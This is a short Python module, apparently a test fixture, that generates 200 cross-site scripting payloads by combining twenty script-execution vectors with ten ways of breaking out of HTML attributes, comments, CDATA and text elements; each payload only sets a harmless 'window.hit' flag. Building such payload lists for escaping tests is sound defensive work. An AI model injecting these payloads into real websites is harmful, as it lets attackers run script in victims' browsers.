"""Two hundred strings that run a script where a page forgets to escape.

In: nothing. Out: `PAYLOADS`, each of which sets ``window.hit`` if it runs. Ten ways to break out
of the words around them, times twenty ways to run.
"""

_RUN = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<style>@import 'javascript:window.hit=1'</style>",
    "<base href=javascript:window.hit=1//>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<video><source onerror=window.hit=1></video>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<template><img src=x onerror=window.hit=1></template><img src=y onerror=window.hit=1>",
    "<ScRiPt\n>window.hit=1</sCrIpT\t>",
    "<p style=animation-name:x onanimationstart=window.hit=1>",
    "{{ ''.__class__ }}${window.hit=1}<%= 1 %><img src=z onerror=window.hit=1>",
)
_BREAK_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea></select>{}",
    "-->{}",
    "]]>{}",
    "</script></style>{}",
    "\u202e&quot;&#62;{}",
    "</p></li></time></a></mark>{}<!--",
)

PAYLOADS = tuple(around.replace("{}", run) for around in _BREAK_OUT for run in _RUN)
